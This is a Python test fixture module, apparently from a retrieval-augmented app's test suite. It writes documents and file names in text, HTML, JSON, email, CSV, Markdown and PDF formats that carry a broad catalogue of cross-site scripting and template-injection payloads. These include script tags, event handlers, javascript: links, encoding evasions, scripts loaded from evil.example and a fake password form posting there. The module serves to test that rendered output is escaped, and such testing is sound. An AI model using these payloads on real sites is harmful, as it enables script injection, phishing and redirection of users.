"""Documents and names that try to be more than text: each holds one fact, and with it a way out of the page.

Nothing here is taken from anywhere. Every attack calls `alert`, asks an address under evil.example, or would put an
element of its own into the page; a test counts all three.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.rag.attacks import NAMES
from tests.rag.files import eml, pdf

CALL = "alert(1)"
ABROAD = "http://evil.example"
ATTACKS = {
    "script": f"<script>{CALL}</script>",
    "script closed before": f"</script><script>{CALL}</script>",
    "script in capitals": f"<ScRiPt >{CALL}</sCrIpT >",
    "script nested": f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "script from abroad": f"<script src={ABROAD}/x.js></script>",
    "script as module": f'<script type="module">import "{ABROAD}/m.js"</script>',
    "script unfinished": f"<script>{CALL}//",
    "script in an attribute": f'"><script>{CALL}</script>',
    "script in a quoted attribute": f"'><script>{CALL}</script>",
    "script in a text area": f"</textarea><script>{CALL}</script>",
    "script in a title": f"</title><script>{CALL}</script>",
    "script in a comment": f"--><script>{CALL}</script><!--",
    "script in CDATA": f"]]><script>{CALL}</script><![CDATA[",
    "handler on an image": f"<img src=x onerror={CALL}>",
    "handler quoted": f'" onmouseover="{CALL}" x="',
    "handler quoted once": f"' onfocus='{CALL}' autofocus x='",
    "handler in backticks": f"<img src=`x` onerror=`{CALL}`>",
    "handler on details": f"<details open ontoggle={CALL}>open</details>",
    "handler on a video": f"<video><source onerror={CALL}></video>",
    "handler on a body": f"<body onload={CALL}>",
    "handler on an input": f"<input autofocus onfocus={CALL}>",
    "link with a script": f"<a href='javascript:{CALL}'>click here</a>",
    "link with tabs in it": f"<a href='java\tscript:{CALL}'>click here</a>",
    "address with a script": f"javascript:{CALL}",
    "address with data": f"<a href='data:text/html,<script>{CALL}</script>'>click here</a>",
    "drawing": f"<svg/onload={CALL}>",
    "drawing with a script": f"<svg><script>{CALL}</script></svg>",
    "drawing with an animation": f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    "formula": f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    "formula with a link": f"<math href='javascript:{CALL}'>click here</math>",
    "template literal": "${" + CALL + "}",
    "template literal nested": "${`${" + CALL + "}`}",
    "backticks": f"`+{CALL}+`",
    "handlebars": "{{constructor.constructor(" + f'"{CALL}"' + ")()}}",
    "handlebars raw": "{{{value}}} {{#each value}}x{{/each}} {{> part}}",
    "escaped backslashes": f"\\x3cimg src=x onerror={CALL}\\x3e \\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    "backslash at a quote": f"\\';{CALL};//",
    "style element": f"<style>@import '{ABROAD}/y.css'; * {{ display: none }}</style>",
    "style attribute": f"<p style='background:url({ABROAD}/b.png);position:fixed;inset:0'>cover</p>",
    "style closed before": f"</style><link rel=stylesheet href={ABROAD}/x.css>",
    "entities": f"&lt;script&gt;{CALL}&lt;/script&gt; &#60;img src=x onerror={CALL}&#62;",
    "entities without ends": f"&lt&#x3c&#60script&gt {CALL} &#0000060/script&#62",
    "entity for a colon": f"<a href='javascript&colon;{CALL}'>click here</a>",
    "UTF-7": f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    "overlong letters": f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    "turned around": f"\u202e>tpircs<{CALL}\u2066\u202d",
    "control letters": f"<img\x07 src=x onerror={CALL}>\x1b[31m",
    "line separators": f"x\u2028{CALL}\u2029",
    "frame": f"<iframe src='{ABROAD}/' srcdoc='<script>{CALL}</script>'></iframe>",
    "object": f"<object data={ABROAD}/o.swf></object><embed src={ABROAD}/e.swf>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ABROAD}/'>",
    "base": f"<base href='{ABROAD}/'>",
    "form": f"<form action='{ABROAD}/'><input name=password><button>Log in again</button></form>",
    "form of a button": f"<button formaction='javascript:{CALL}'>Continue</button>",
    "Markdown link": f"[click here](javascript:{CALL}) [and here]({ABROAD}/)",
    "Markdown image": f"![a picture]({ABROAD}/pixel.png)",
    "free of its box": "</mark></blockquote></details></section><h1 id=free>free</h1>",
    "an id of the page": "<div id=conversation><div id=composer></div></div>",
    "a name of the window": "<a id=gradio_config name=location></a><a id=gradio_config name=root>",
    "one long word": "W" * 3_000,
    "many marks": "Z" + "\u0335\u0489\u0321" * 60,
}
"""What is tried → how; each becomes a document of its own."""
HOSTILE_NAMES = (
    f"<img src=x onerror={CALL}>.txt",
    f'" onmouseover="{CALL}" x=".txt',
    f"' onfocus='{CALL}.txt",
    "two\nlines\t<b>.txt",
    "\u202etxt.<b>exe\u2066.txt",
    "👩‍👩‍👧 ${alert(1)} 🏴.txt",
    "{{value}} `id`.txt",
    "&lt;script&gt;alert(1)&lt;.txt",
    f"javascript:{CALL}.txt",
    "ab" * 110 + ".txt",
    "\u0645\u0644\u0641 <u>.txt",
    "#q1-note1?x=<s>&y=%3Cs%3E.txt",
    f"<svg onload={CALL}>.exe",  # from here on left out, and named in the list of what was
    os.fsdecode(b"half \xff\xfe <i>.txt\xff"),
    f'"><script>{CALL}<.bin',
)
THINGS = (
    "weathercock lantern ferry anvil windmill fountain milestone barn chimney drum gate kite ladder mirror oven "
    "parasol quilt raft saddle telescope umbrella violin wagon xylophone yoke zither accordion barrel candle "
    "dovecote easel flagpole granary hammock inkwell jug kettle lighthouse mast nutcracker organ pulpit quarry "
    "rudder sundial tombstone urn vault well anchor bench crane door engine fence greenhouse hull icehouse jetty "
    "kiln loom map notebook oar piano rope sail tapestry tower bell stove tunnel viaduct wardrobe armchair bridge "
    "carpet dam trumpet compass plough scarecrow"
).split()
LEFT_OUT = (".exe", ".bin", os.fsdecode(b"\xff"))
FACTS = (
    "The {thing} of {place} was painted with {attack} in 1987.",
    "On the {thing} at {place} somebody carved {attack} by hand.",
    "Since the flood the {thing} of {place} shows {attack} to visitors.",
    "The {thing} in {place} bears {attack} as its inscription.",
)
AFTER = (
    "Nobody remembers who paid for the work.",
    "The parish council voted on it twice, and the second vote was closer.",
    "Rain has worn away a corner since.",
    "Schoolchildren copied it into their notebooks every spring.",
    "A carpenter from the next valley repaired it without asking for money.",
    "It was mentioned in a letter which an aunt kept under her bed.",
    "Swallows nest above it, and no one disturbs them.",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, what to ask so that it is quoted, and what of the attack is then to be read as text in the page."""

    name: str
    data: bytes
    question: str
    attack: str


def as_text(text: str) -> bytes:
    return text.encode()


def as_web(text: str) -> bytes:
    """The attack twice: as text, escaped; and live, beside it."""
    live = f"<img src=x onerror={CALL}><script>{CALL}</script><p onclick={CALL}>"
    return f"<html><head><title>A sign</title></head><body>{live}<p>{html.escape(text)}</p></body></html>".encode()


def as_record(text: str) -> bytes:
    return json.dumps([{"title": "A sign", "text": text, "date": "2021-05-04"}]).encode()


def as_mail(text: str) -> bytes:
    return eml(text, Subject="A sign", From="Mira <mira@example.org>", Date="Tue, 4 May 2021 10:00:00 +0000")


def as_row(text: str) -> bytes:
    rows = io.StringIO()
    csv.writer(rows).writerows([["place", "report"], ["here", text]])
    return rows.getvalue().encode()


WRITERS: tuple[tuple[str, Callable[[str], bytes]], ...] = (
    (".txt", as_text),
    (".html", as_web),
    (".json", as_record),
    (".txt", as_text),
    (".eml", as_mail),
    (".csv", as_row),
    (".txt", as_text),
)


def documents() -> Iterator[Hostile]:
    """One of each attack in a document's text, in all formats by turns; in titles and publishers; in names."""
    subjects = enumerate(zip(THINGS, NAMES, strict=False))
    for number, attack in enumerate(ATTACKS.values()):
        suffix, write = WRITERS[number % len(WRITERS)]
        fact, question = _fact(next(subjects), attack)
        yield Hostile(f"{number:02}{suffix}", write(f"{fact} {AFTER[number % len(AFTER)]}"), question, _printed(attack))
    for number, (name, write_titled) in enumerate(_TITLED.items()):
        title = f"<img src=x onerror={CALL}>${{{CALL}}}{{{{value}}}}\"'</span><script>{CALL}</script>"
        fact, question = _fact(next(subjects), "two herons")
        yield Hostile(name, write_titled(title, f"{fact} {AFTER[number % len(AFTER)]}"), question, f"onerror={CALL}")
    for number, name in enumerate(HOSTILE_NAMES):
        fact, question = _fact(next(subjects), "a red heart")
        yield Hostile(name, f"{fact} {AFTER[number % len(AFTER)]}".encode(), question, name)


def _fact(subject: tuple[int, tuple[str, str]], attack: str) -> tuple[str, str]:
    number, (thing, place) = subject
    return FACTS[number % len(FACTS)].format(thing=thing, place=place, attack=attack), f"{thing} {place}"


def _printed(attack: str) -> str:
    """What a reader keeps of it: control letters have no place in a text."""
    return "".join(letter for letter in attack.replace("\t", " ") if letter >= " ")


def _titled_markdown(title: str, text: str) -> bytes:
    return (
        f"---\ntitle: {json.dumps(title)}\npublisher: {json.dumps(title)}\ndate: 2021-05-04\n---\n\n{text}\n".encode()
    )


def _titled_web(title: str, text: str) -> bytes:
    said = html.escape(title)
    meta = f'<meta property="og:site_name" content="{said}"><meta property="og:title" content="{said}">'
    return f"<html><head><title>{said}</title>{meta}</head><body><p>{text}</p></body></html>".encode()


def _titled_pdf(title: str, text: str) -> bytes:
    return pdf([[text[at : at + 80] for at in range(0, len(text), 80)]], info=f"/Title ({_pdf(title)})")


def _pdf(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _titled_mail(title: str, text: str) -> bytes:
    return eml(text, Subject=title, From=f'"{title.replace(chr(34), "")}" <mira@example.org>')


_TITLED: dict[str, Callable[[str, str], bytes]] = {
    "titled.md": _titled_markdown,
    "titled.html": _titled_web,
    "titled.pdf": _titled_pdf,
    "titled.eml": _titled_mail,
}


def write(folder: Path) -> list[Hostile]:
    """Write them all; those that are to be found by asking. Names that this file system refuses are left out."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for document in documents():
        try:
            (folder / document.name).write_bytes(document.data)
        except (OSError, UnicodeEncodeError):
            continue
        if not document.name.endswith(LEFT_OUT):
            written.append(document)
    return written
